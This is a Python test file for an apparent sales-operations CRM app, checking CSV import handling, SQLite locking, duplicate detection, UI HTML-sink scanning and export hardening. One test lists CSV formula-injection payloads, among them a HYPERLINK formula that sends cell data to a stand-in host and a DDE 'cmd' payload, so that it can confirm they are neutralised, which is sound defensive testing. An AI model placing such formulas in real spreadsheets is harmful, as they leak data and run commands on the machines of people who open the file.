"""Reliability and security checks from shared/reference/reliability-security.md (IDs in each docstring)."""

from __future__ import annotations

import hashlib
import io
import re
import sqlite3
import threading
import time
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, select

from salesops.export.safe import csv_bytes
from salesops.ingest.batches import previous_import
from salesops.ingest.pipeline import ingest_paths
from salesops.store.schema import deals, leads
from salesops.store.workspaces import find, get_or_create

REPO = Path(__file__).resolve().parents[2]


def test_sentinel_words_stay_text_and_ids_keep_leading_zeros(engine: Engine, tmp_path: Path) -> None:
    """E1, E2: "NA" is Namibia in a text column, a blank in a number column; ids and zips stay byte-exact."""
    path = tmp_path / "leads.csv"
    path.write_text(
        "Lead ID,Company,Country,Employees,Lead Source,Zip\n"
        "00123,Etosha Tours,NA,N/A,Web,01234\n"
        "00124,Null Island Ltd,null,12,Referral,00000\n",
        encoding="utf-8",
    )
    [result] = ingest_paths(engine, "W", [path])
    assert (result.rows_loaded, result.rows_rejected) == (2, 0)
    with engine.connect() as conn:
        rows = {r.id: r for r in conn.execute(select(leads.c.id, leads.c.country, leads.c.employees, leads.c.extra))}
    assert set(rows) == {"00123", "00124"}
    assert rows["00123"].country == "NA"
    assert rows["00123"].employees is None
    assert rows["00124"].country == "null"
    assert '"Zip":"01234"' in rows["00123"].extra


def test_import_waits_for_a_briefly_locked_sqlite_store(sqlite_engine: Engine, tmp_path: Path) -> None:
    """F4: another writer holds the lock for 1.5 s; the import waits (busy timeout) and succeeds."""
    with sqlite_engine.begin() as conn:
        get_or_create(conn, "W")
    path = tmp_path / "deals.csv"
    path.write_text("Deal ID,Stage,Amount\nD1,Closed Won,10\n", encoding="utf-8")
    locker = sqlite3.connect(str(sqlite_engine.url.database), check_same_thread=False)
    locker.execute("BEGIN IMMEDIATE")
    release = threading.Timer(1.5, locker.rollback)
    release.start()
    started = time.monotonic()
    [result] = ingest_paths(sqlite_engine, "W", [path])
    release.join()
    locker.close()
    assert result.rows_loaded == 1
    assert time.monotonic() - started >= 1.0


def test_same_file_twice_is_recognised_and_not_duplicated(engine: Engine, tmp_path: Path) -> None:
    """F7, H12: the second import of the same bytes is found by its fingerprint and adds no rows."""
    path = tmp_path / "deals.csv"
    path.write_text("Deal ID,Stage,Amount\nD1,Closed Won,10\nD2,Closed Lost,5\n", encoding="utf-8")
    [first] = ingest_paths(engine, "W", [path])
    [second] = ingest_paths(engine, "W", [path])
    with engine.connect() as conn:
        workspace = find(conn, "W") or 0
        earlier = previous_import(conn, workspace, hashlib.sha256(path.read_bytes()).hexdigest())
        count = len(conn.execute(select(deals.c.id)).all())
    assert earlier is not None
    assert earlier[0] == second.batch_id > first.batch_id
    assert count == 2
    assert second.rows_unchanged == 2


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=30), min_size=1, max_size=20))
def test_exported_text_never_starts_a_formula(values: list[str]) -> None:
    """G1: whatever text a CRM field holds, no exported CSV cell starts with a formula trigger."""
    frame = pd.DataFrame({"name": values, "amount": [-12.5] * len(values)})
    exported = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert not exported["name"].str.startswith(TRIGGERS).any()
    assert (exported["amount"] == "-12.5").all()  # numbers stay numbers


def test_known_injection_payloads_are_neutralised() -> None:
    """G1: the catalogue's payloads come back as inert text."""
    payloads = ['=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3", "\t=1"]
    text = csv_bytes(pd.DataFrame({"note": payloads})).decode("utf-8-sig")
    cells = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["note"].tolist()
    assert all(cell.startswith("'") for cell in cells)
    assert [cell[1:] for cell in cells] == payloads


def test_no_raw_html_sinks_in_the_ui() -> None:
    """H1: no unsafe_allow_html, st.html or components.html anywhere user data could reach."""
    sources = [REPO / "app.py", *(REPO / "pages").glob("*.py"), *(REPO / "salesops").rglob("*.py")]
    pattern = re.compile(r"unsafe_allow_html\s*=\s*True|st\.html\(|components\.v1|components\.html")
    offenders = [str(p.relative_to(REPO)) for p in sources if pattern.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_browser_never_sees_tracebacks() -> None:
    """H7, H9: error details are hidden from the browser and the upload cap is set for 200 MB exports."""
    config = (REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert re.search(r'showErrorDetails\s*=\s*"none"', config)
    cap = int(re.search(r"maxUploadSize\s*=\s*(\d+)", config).group(1))  # type: ignore[union-attr]
    assert 200 <= cap <= 500
